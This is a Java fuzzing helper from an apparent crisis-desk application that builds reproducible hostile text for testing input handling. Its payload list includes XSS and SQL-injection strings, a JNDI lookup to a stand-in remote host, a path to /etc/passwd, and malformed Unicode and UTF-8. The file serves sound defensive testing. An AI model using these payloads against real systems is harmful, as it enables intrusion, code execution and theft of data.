package org.crisisdesk.testing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Hostile and odd text for fuzzing every entry point that takes outside text: lone surrogates, NUL and control
 * characters, bidi overrides, ZWJ sequences, SQL-looking and HTML/JS payloads, template and Markdown syntax, random
 * code points from every plane, and (on request) invalid UTF-8 bytes and 1 MB texts.
 *
 * <p>Reproducible: one run's seed comes from {@code -Dfuzz.seed=N} (default fixed; {@code -Dfuzz.seed=random} picks
 * one) and each case has its own seed derived from it, so a failure names the one case to replay. Not thread-safe.
 */
public final class Hostile {
    public static final long DEFAULT_SEED = 20_261_128L;

    static final List<String> PAYLOADS = List.of(
            // markup and script
            "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>", "</textarea><script>", "\"><script>alert(document.cookie)</script>",
            "'onmouseover='alert(1)", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<!--", "-->",
            "]]>", "<![CDATA[", "<iframe src=data:text/html,x>", "&lt;script&gt;", "&amp;lt;", "&#60;script&#62;",
            "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0;url=x>",
            // SQL-looking
            "'; DROP TABLE mention; --", "\" OR 1=1 --", "' OR ''='", "%' UNION SELECT password FROM users --",
            "\\'; SHUTDOWN; --", "1; DELETE FROM notice", "' || (SELECT CHAR(65)) || '", "$$; CALL X(); $$",
            // template, Markdown, format strings, paths
            "{category}", "{eta:이/가}", "{", "}", "{{", "}}", "[[", "]]", "[[{eta}|{next}]]", "[[|]]", "{unknown}",
            "**bold**", "[x](javascript:alert(1))", "`code`", "| a | b |", "# heading", "> quote", "\\", "%s%n%x",
            "${jndi:ldap://x.example/a}", "{0}", "'{0}'", "../../etc/passwd", "C:\\con\\aux",
            // bidi, zero-width, ZWJ and other format characters
            "\u202E", "\u202D", "\u202A", "\u2066", "\u2067", "\u2068", "\u2069", "\u200F", "\u200E", "\u061C",
            "abc\u202Efdp.exe", "\u200B", "\u200C", "\u200D", "\uFEFF", "\u2060", "\u00AD",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66", "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
            "\uD83D\uDC4D\uD83C\uDFFD", "\u200D\u200D\u200D", "\uFE0F\uFE0F", "\uD83C\uDDF0\uD83C\uDDF7",
            // combining, decomposed Hangul, look-alikes
            "e\u0301\u0301\u0301", "Z\u0351\u0358\u0362\u036F\u0310", "\u1100\u1161\u11A8", "ﾊﾝｶｸ", "ＡＢＣ", "раураl",
            // controls and separators
            "\u0000", "\u0001", "\u0007", "\b", "\t", "\n", "\r", "\r\n", "\u000B", "\f", "\u001B[31m", "\u007F",
            "\u0085", "\u2028", "\u2029", "\u00A0", "\u3000",
            // surrogates: lone, reversed, at the end
            "\uD800", "\uDC00", "\uDFFF\uD800", "\uDBFF", "x\uD83D",
            // noncharacters and private use
            "\uFFFE", "\uFFFF", "\uE000", "\uDB80\uDC00",
            // ordinary crisis text
            "배송이 안 와요 @desk_official", "인터넷 장애 언제 복구돼요?", "환불 요청합니다 #장애", "https://t.co/abc123",
            "@desk_official", "R&D팀 <공지> 5 > 3 & 2 < 4", "😡😡😡", "SKT 먹통 ㅠㅠ", "ok");

    private final long runSeed;
    private SplittableRandom r;
    private long caseSeed;

    public Hostile(long runSeed) {
        this.runSeed = runSeed;
        this.r = new SplittableRandom(runSeed);
    }

    private static final long RUN_SEED = readSeed();

    /** The run's seed from {@code -Dfuzz.seed} ("random" for a fresh one, the same for the whole JVM). */
    public static long seedFromProperty() {
        return RUN_SEED;
    }

    private static long readSeed() {
        String p = System.getProperty("fuzz.seed");
        if (p == null || p.isBlank()) {
            return DEFAULT_SEED;
        }
        if (p.equals("random")) {
            return System.nanoTime();
        }
        return Long.parseLong(p.strip());
    }

    public long runSeed() {
        return runSeed;
    }

    /** Starts case {@code n}: from here the generator depends only on the run seed and {@code n}. */
    public Hostile startCase(long n) {
        caseSeed = runSeed * 1_000_003L + n;
        r = new SplittableRandom(caseSeed);
        return this;
    }

    /** What to print when case {@code n} fails. */
    public String describe(long n) {
        return "fuzz seed " + runSeed + ", case " + n + " (case seed " + caseSeed + "); replay with -Dfuzz.seed="
                + runSeed;
    }

    public int nextInt(int bound) {
        return r.nextInt(bound);
    }

    public boolean chance(double p) {
        return r.nextDouble() < p;
    }

    public <T> T pick(List<T> from) {
        return from.get(r.nextInt(from.size()));
    }

    /** One to eight pieces of hostile text, usually short. May be empty, may contain anything a String can. */
    public String text() {
        int pieces = 1 + r.nextInt(8);
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < pieces; i++) {
            switch (r.nextInt(6)) {
                case 0, 1, 2 -> b.append(pick(PAYLOADS));
                case 3 -> randomCodePoints(b, 1 + r.nextInt(12));
                case 4 -> b.append(' ');
                default -> b.append(pick(PAYLOADS)).append(pick(PAYLOADS));
            }
        }
        return b.toString();
    }

    /** Like {@link #text()} but free of NUL and lone surrogates: what a store must keep exactly. */
    public String storableText() {
        String s = text();
        StringBuilder b = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char ch = s.charAt(i);
            if (ch == 0) {
                continue;
            }
            if (Character.isHighSurrogate(ch) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
                b.append(ch).append(s.charAt(++i));
            } else if (!Character.isSurrogate(ch)) {
                b.append(ch);
            }
        }
        return b.length() == 0 ? "x" : b.toString();
    }

    /** About {@code chars} characters of hostile text (e.g. 1 MB). */
    public String big(int chars) {
        StringBuilder b = new StringBuilder(chars + 64);
        while (b.length() < chars) {
            b.append(text());
        }
        b.setLength(chars);
        return b.toString();
    }

    /** UTF-8 of a hostile text with invalid byte sequences spliced in (overlong, truncated, stray continuation). */
    public byte[] bytes() {
        byte[] valid = text().getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream(valid.length + 8);
        int cut = valid.length == 0 ? 0 : r.nextInt(valid.length + 1);
        out.write(valid, 0, cut);
        out.writeBytes(pick(INVALID_UTF8));
        out.write(valid, cut, valid.length - cut);
        return out.toByteArray();
    }

    static final List<byte[]> INVALID_UTF8 = List.of(new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0x80}, new byte[] {(byte) 0xBF, (byte) 0xBF}, new byte[] {(byte) 0xF8, (byte) 0x88,
                (byte) 0x80, (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xFE},
            new byte[] {(byte) 0xE2, (byte) 0x82}, new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xC3});

    private void randomCodePoints(StringBuilder b, int n) {
        for (int i = 0; i < n; i++) {
            int cp = switch (r.nextInt(5)) {
                case 0 -> r.nextInt(0x80);
                case 1 -> 0xAC00 + r.nextInt(11172); // Hangul syllables
                case 2 -> 0x1F300 + r.nextInt(0x300); // emoji
                case 3 -> r.nextInt(0x10000); // BMP, surrogates included: a char, not a code point
                default -> r.nextInt(0x110000);
            };
            if (cp < 0x10000) {
                b.append((char) cp);
            } else {
                b.appendCodePoint(cp);
            }
        }
    }
}
